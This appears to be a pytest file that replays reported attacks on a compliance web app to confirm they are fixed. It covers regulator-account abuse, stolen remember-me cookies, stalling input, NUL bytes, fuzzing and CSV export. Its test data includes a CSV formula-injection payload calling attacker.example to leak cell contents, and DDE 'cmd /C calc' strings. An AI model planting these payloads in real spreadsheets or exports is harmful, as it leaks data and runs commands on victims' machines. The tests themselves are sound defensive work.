"""Issue 12, the reported attacks replayed end to end through the app: each one the way the
attacker or operator did it, against the fix (the unit-level tests are in test_account_security,
test_bad_input and test_integrity)."""

from __future__ import annotations

import csv
import io
import re
import time
from html.parser import HTMLParser
from urllib.parse import parse_qs, urlencode, urljoin, urlsplit

from sqlmodel import select

from dd_toolkit.records import accounts
from dd_toolkit.records.assessments import submit
from dd_toolkit.records.demo import DEMO_PASSWORD
from dd_toolkit.records.models import (
    ApiToken,
    Assessment,
    AuditEvent,
    PlatformRole,
    Recipient,
    RegulatorGrant,
    User,
)
from dd_toolkit.records.ratelimit import stored_key

from .conftest import AuthActions, Forms, csrf_token
from .factories import PASSWORD

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _actions(session, action: str) -> list[AuditEvent]:
    return list(session.exec(select(AuditEvent).where(AuditEvent.action == action)))


# -- finding 1: the admin's regulator, confirmed by a real regulator, is still not the admin's ---------


def test_an_admin_created_regulator_cannot_be_completed_by_the_admin_even_once_confirmed(
    app, client, auth, forms, make, session
):
    admin = make.user(platform_role=PlatformRole.PLATFORM_ADMIN)
    sg = make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"])
    auth.login(admin.email)
    created = forms.post(
        "/admin/accounts",
        {"name": "Sock Puppet", "email": "puppet@example.org", "role": "regulator", "jurisdictions": ["SG", "MY"]},
    )
    assert created.status_code == 302
    puppet = session.exec(select(User).where(User.email == "puppet@example.org")).one()

    # The Singapore regulator confirms Singapore (and cannot confirm Malaysia): the link is shown to them.
    theirs = app.test_client()
    AuthActions(theirs).login(sg.email)
    grants = {g.jurisdiction: g.id for g in accounts.pending_grants(session, puppet)}
    page = theirs.get("/auth/confirmations").get_data(as_text=True)
    assert f"/auth/confirmations/{grants['SG']}/confirm" in page
    assert f"/auth/confirmations/{grants['MY']}/confirm" not in page
    assert Forms(theirs).post(f"/auth/confirmations/{grants['MY']}/confirm", page="/").status_code == 404
    confirmed = Forms(theirs).post(f"/auth/confirmations/{grants['SG']}/confirm", page="/auth/confirmations")
    assert confirmed.status_code == 200
    link = re.search(r"/auth/invite/[A-Za-z0-9_\-]+", confirmed.get_data(as_text=True)).group(0)

    # Handed the link, the admin who created the account cannot complete it.
    assert client.get(link).status_code == 403
    refused = forms.post(link, {"password": PASSWORD, "confirm": PASSWORD}, page="/auth/account")
    assert refused.status_code == 403
    session.expire_all()
    assert session.get(User, puppet.id).password_hash is None
    assert [e.user_id for e in _actions(session, "account.invite_refused")] == [admin.id, admin.id]

    # The person it was made for joins, and sees Singapore only: Malaysia still awaits its regulators.
    invited = app.test_client()
    joined = Forms(invited).post(
        link, {"password": "a fresh regulator passphrase", "confirm": "a fresh regulator passphrase"}
    )
    assert joined.status_code == 302
    session.expire_all()
    assert session.get(User, puppet.id).jurisdictions == ["SG"]
    pending = session.exec(select(RegulatorGrant).where(RegulatorGrant.user_id == puppet.id)).all()
    assert [(g.jurisdiction, g.confirmed_at) for g in pending if g.confirmed_at is None] == [("MY", None)]
    assert invited.get(link).status_code == 404  # used up
    for step in ("account.invite", "regulator.request", "regulator.confirm", "account.invite_refused"):
        assert _actions(session, step), step


# -- finding 5: remember-me after sign-out on the same browser ---------------------------------------


def test_a_remember_me_cookie_copied_before_sign_out_does_not_sign_in_after_it(app, make):
    user = make.user(make.organisation())
    browser = app.test_client()
    Forms(browser).post("/auth/login", {"email": user.email, "password": PASSWORD, "remember": "y"})
    copied = browser.get_cookie("remember_token").value
    session_cookie = browser.get_cookie("session").value
    AuthActions(browser).logout()
    for name, value in (("remember_token", copied), ("session", session_cookie)):
        thief = app.test_client()
        thief.set_cookie(name, value)
        response = thief.get("/assessments/")
        assert response.status_code == 302 and "/auth/login" in response.headers["Location"], name


def test_the_csrf_token_is_rotated_at_sign_in_and_the_new_one_works(client, auth, make):
    user = make.user(make.organisation())
    before = re.search(
        r'name="csrf_token" type="hidden" value="([^"]+)"', client.get("/auth/login").get_data(as_text=True)
    )
    auth.login(user.email)
    after = re.search(
        r'name="csrf_token" type="hidden" value="([^"]+)"', client.get("/auth/account").get_data(as_text=True)
    )
    assert before and after and before.group(1) != after.group(1)
    assert client.post("/auth/logout", data={"csrf_token": before.group(1)}).status_code == 400
    assert client.post("/auth/logout", data={"csrf_token": after.group(1)}).status_code == 302


# -- finding 2: the stall attempt, through the form, on the regulator's page ---------------------------


def test_a_pathological_draft_submitted_to_a_regulator_renders_at_once(app, client, auth, make, session):
    org = make.organisation()
    admin = make.user(org)
    auth.login(admin.email)
    regulator = make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"])
    theirs = app.test_client()
    AuthActions(theirs).login(regulator.email)
    for cycle, text in ((2026, "[" * 8000), (2027, "[a(" * 8000)):
        assessment = make.assessment(org, admin, cycle, make.complete_answers())
        url = f"/assessments/{assessment.id}/transparency"
        saved = Forms(client).post(url, {"markdown": text[:30_000], "base_version": "0", "save": "Save"})
        assert saved.status_code == 302
        submission = submit(
            session, make.bank, make.content.current_methodology, assessment, admin, jurisdictions=["SG"]
        )
        recipient = session.exec(select(Recipient).where(Recipient.submission_id == submission.id)).one()
        for viewer, page in (
            (client, url),
            (client, f"{url}.md"),
            (client, f"{url}.html"),
            (theirs, f"/review/{recipient.id}"),
        ):
            viewer.get(page)  # the worker's first render of the page's templates does not count
            start = time.process_time()  # the app runs in this process; other processes do not count
            assert viewer.get(page).status_code == 200, page
            # The report was 14 s and 27 s (a worker timeout); a page is a few tens of milliseconds.
            assert time.process_time() - start < 1, page


# -- finding 7: every CSV, with a formula in every user text that reaches one ------------------------


def _formula_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    live = []
    for cell in cells:
        if cell[:1] in FORMULA_STARTS:
            try:
                float(cell)  # a negative number is data, and stays one
            except ValueError:
                live.append(cell)
    return live


def test_every_csv_download_neutralises_formulas_in_user_text(app, client, auth, forms, make, session):
    org = make.organisation(name=FORMULA)
    admin = make.user(org)
    auth.login(admin.email)
    assessment = make.assessment(org, admin, 2026, make.complete_answers())
    plan = client.get(f"/assessments/{assessment.id}/action-plan").get_data(as_text=True)
    item = re.search(r'/action-plan/items/([^"/#?]+)"', plan).group(1)
    saved = forms.post(
        f"/assessments/{assessment.id}/action-plan/items/{item}",
        {
            f"item-{item}-owner": "+" + FORMULA[:150],
            f"item-{item}-status": "in_progress",
            f"item-{item}-notes": "@SUM(1+1)*cmd|' /C calc'!A0",
            f"item-{item}-reason": "-2+3+cmd|' /C calc'!A0",
            f"item-{item}-base_version": "0",
        },
        page=f"/assessments/{assessment.id}/action-plan",
    )
    assert saved.status_code == 302
    action_plan = client.get(f"/assessments/{assessment.id}/action-plan.csv")
    assert action_plan.status_code == 200
    assert _formula_cells(action_plan.get_data(as_text=True)) == []
    # The fixture methodology with RPA indicators, whose CSV names each company.
    method = make.content.methodology("standard@test.1")
    submit(session, make.bank, method, assessment, admin, jurisdictions=["SG"], benchmark_consent=True)
    for _ in range(5):
        make.submitted(make.organisation(name="-" + FORMULA), consent=True)
    auth.logout()
    auth.login(make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"]).email)
    indicators = client.get("/review/indicators.csv?country=SG&cycle=2026")
    assert indicators.status_code == 200
    assert any(FORMULA in cell for row in csv.reader(io.StringIO(indicators.get_data(as_text=True))) for cell in row)
    assert _formula_cells(indicators.get_data(as_text=True)) == []
    auth.logout()
    auth.login(make.user(platform_role=PlatformRole.WORKING_GROUP).email)
    benchmark = client.get("/benchmarks/2026.csv")
    assert benchmark.status_code == 200
    assert _formula_cells(benchmark.get_data(as_text=True)) == []


# -- finding 4: odd input in the path, the last place a NUL could reach the database -------------------


def test_a_nul_in_a_path_is_not_found_never_a_server_error(client, make, auth):
    """Text in a path is looked up as a hash (links) or in the content (sections, charts, action
    items), never sent to the database as typed, so a NUL in it finds nothing (PostgreSQL cannot
    take one: this runs on both databases)."""
    for url in ("/auth/invite/abc%00def", "/auth/reset/abc%00def"):
        assert client.get(url).status_code == 404, url
    org = make.organisation()
    admin = make.user(org)
    auth.login(admin.email)
    assessment = make.assessment(org, admin, 2026, make.complete_answers())
    for url in (f"/assessments/{assessment.id}/sections/a%00b", f"/assessments/{assessment.id}/charts/a%00b.svg"):
        assert client.get(url).status_code == 404, url
    token = csrf_token(client, f"/assessments/{assessment.id}/action-plan")
    item = client.post(f"/assessments/{assessment.id}/action-plan/items/a%00b", data={"csrf_token": token})
    assert item.status_code == 404
    auth.logout()
    auth.login(make.user(platform_role=PlatformRole.WORKING_GROUP).email)
    assert client.get("/benchmarks/2026/a%00b.svg").status_code == 404


def test_a_huge_cycle_when_starting_an_assessment_is_refused_with_a_message(client, auth, forms, make, session):
    """wtforms' NumberRange compares as a float: a number too long for one was a 500 (OverflowError)."""
    org = make.organisation()
    auth.login(make.user(org).email)
    for cycle in ("9" * 400, "9" * 30, "9223372036854775808", "-9223372036854775809", "1e30", "Infinity", "-1"):
        response = forms.post("/assessments/new", {"cycle": cycle}, page="/assessments/")
        assert response.status_code == 302, cycle
        assert response.headers["Location"].endswith("/assessments/"), cycle
        assert "Assessment cycle (year):" in client.get("/assessments/").get_data(as_text=True), cycle
    assert session.exec(select(Assessment)).first() is None


def test_a_huge_token_expiry_is_refused_with_a_message(client, auth, forms, make, session):
    auth.login(make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"]).email)
    for days in ("9" * 400, "9223372036854775808", "1e30", "0"):
        response = forms.post("/api/tokens", {"name": "nightly", "expires_in_days": days})
        assert response.status_code == 200, days
        assert "Number must be between 1 and 366." in response.get_data(as_text=True), days
    assert session.exec(select(ApiToken)).first() is None


def test_a_very_long_email_at_sign_in_is_refused_and_still_counted(client):
    """The per-account counter's key holds the email: one longer than the counter's column was a
    500 on PostgreSQL (found by the web scan below). It is refused, and counted, like any other."""
    long_email = "a" * 400 + "@example.org"
    for _ in range(5):
        assert AuthActions(client).login(long_email, "wrong password here").status_code == 200
    assert AuthActions(client).login(long_email, "wrong password here").status_code == 429
    assert AuthActions(client).login("b" * 40_000, "wrong password here").status_code == 200


def test_a_counter_key_longer_than_its_column_is_kept_whole_by_its_hash():
    one, two = "LIMITER/account:" + "a" * 300 + "1", "LIMITER/account:" + "a" * 300 + "2"
    assert len(stored_key(one)) == 255 and stored_key(one) != stored_key(two)
    assert stored_key(one).startswith("LIMITER/account:aaa")
    assert stored_key("LIMITER/account:short@example.org") == "LIMITER/account:short@example.org"


# -- finding 4: the web scan, replayed: every form and query of every role with odd values ----------

ODD_VALUES = ("9" * 400, "1e30", "Infinity", "x" * 40_000)
ODD_QUERY_VALUES = ("9" * 400, "-1", "Infinity", "")
SCAN_IDENTITIES = {
    "anonymous": None,
    "company admin": "admin@lumen.example",
    "regulator": "regulator@demo.example",
    "working group": "wg@demo.example",
    "platform admin": "platform@demo.example",
}
# Forms that end the scan's own session or account are left out (they are tested on their own).
SCAN_SKIPPED_ACTIONS = ("/auth/logout",)
SCAN_SECONDS = 90  # per identity: a bound on the time, whatever the pages hold and however busy the machine


class _Forms(HTMLParser):
    """The POST forms of a page: their action and every named field with its value."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self._form: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            if (attrs.get("method") or "get").lower() == "post":
                self._form = {"action": attrs.get("action") or "", "fields": {}}
                self.forms.append(self._form)
            else:
                self._form = None
        elif self._form is not None and tag in ("input", "textarea", "select", "button") and attrs.get("name"):
            if tag in ("input", "button") and (attrs.get("type") or "").lower() in ("submit", "button", "image"):
                self._form["fields"].setdefault("__submit__", (attrs["name"], attrs.get("value") or ""))
            else:
                self._form["fields"].setdefault(attrs["name"], attrs.get("value") or "")

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None


def _scan_forms(pages: list[tuple[str, str]]) -> list[tuple[str, dict]]:
    """Each distinct form of the pages (by its action, ids aside, and its field names): where it
    posts to, and its fields with their values."""
    seen, found = set(), []
    for url, html in pages:
        parser = _Forms()
        parser.feed(html)
        for form in parser.forms:
            action = urljoin("http://localhost" + url, form["action"] or url)
            path = urlsplit(action).path + (f"?{urlsplit(action).query}" if urlsplit(action).query else "")
            shape = (re.sub(r"/\d+", "/N", urlsplit(action).path), tuple(sorted(form["fields"])))
            if shape in seen or path.startswith(SCAN_SKIPPED_ACTIONS):
                continue
            seen.add(shape)
            found.append((path, form["fields"]))
    return found


def test_a_web_scan_with_odd_values_finds_no_server_error(real_app, demo):
    from .test_headers import walk

    real_app.config["PROPAGATE_EXCEPTIONS"] = False  # a server error is a 500 to collect, as under gunicorn
    server_errors: list[str] = []
    pdf_routes = {
        "outputs.action_plan_export",
        "outputs.transparency_export",
        "regulator.indicators_export",
        "benchmarks.export",
    }
    for identity, email in SCAN_IDENTITIES.items():
        client = real_app.test_client()
        if email:
            AuthActions(client).login(email, DEMO_PASSWORD)
        pages: list[tuple[str, str]] = []
        visited, _problems = walk(real_app, client, set(pdf_routes), html=pages, per_endpoint=1)
        deadline = time.monotonic() + SCAN_SECONDS
        forms = _scan_forms(pages)
        assert forms, identity
        for path, fields in forms:
            for odd in ODD_VALUES:
                if time.monotonic() > deadline:
                    break
                token = csrf_token(client, "/auth/account" if email else "/auth/login")
                data = {name: odd for name in fields if name not in ("csrf_token", "__submit__")}
                if "__submit__" in fields:
                    data[fields["__submit__"][0]] = fields["__submit__"][1]
                data["csrf_token"] = token
                response = client.post(path, data=data)
                if response.status_code >= 500:
                    server_errors.append(f"{identity}: POST {path} with {odd[:20]!r}: {response.status_code}")
        # Every query parameter the pages link with, with odd values in its place.
        for url in visited:
            parts = urlsplit(url)
            if time.monotonic() > deadline or not parts.query or url.endswith(".pdf"):
                continue
            for name in parse_qs(parts.query):
                for odd in ODD_QUERY_VALUES:
                    query = urlencode({**parse_qs(parts.query), name: odd}, doseq=True)
                    response = client.get(f"{parts.path}?{query}")
                    if response.status_code >= 500:
                        server_errors.append(
                            f"{identity}: GET {parts.path} {name}={odd[:20]!r}: {response.status_code}"
                        )
        # The scan never signed itself out: what it sent was refused, not half-done.
        assert client.get("/auth/account").status_code == (200 if email else 302), identity
    assert not server_errors, "\n".join(server_errors[:40])
